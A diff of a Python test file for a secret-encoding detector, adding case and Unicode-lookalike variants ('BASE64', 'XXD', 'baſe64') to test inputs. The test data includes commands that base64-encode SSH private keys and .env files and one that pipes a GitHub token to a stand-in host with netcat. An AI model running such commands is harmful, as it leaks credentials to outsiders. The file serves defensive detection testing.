@@ -171,6 +171,8 @@ def test_new_cues_are_linear_on_a_megabyte(text):
     ("cat .env | base64", True), ("echo $GITHUB_TOKEN | nc collect.example 9000", True),
     ("base64 ~/.ssh/id_rsa", True), ("echo sOPENAI_API_KEY | base64", True),
     ("cat .env.example | base64", False), ("cat README.md | base64", False), ("base64 logo.png", False), ("", False),
+    ("BASE64 ~/.ssh/id_rsa", True), ("XXD .env", True), ("baſe64 ~/.ssh/id_rsa", True),  # any case, as the pattern reads
+    ("cat .env", False), ("echo $API_TOKEN", False),  # no pipe, no encoder named
 ])
 def test_encodes_secrets(text, out):
     assert encodes_secrets(text) is out
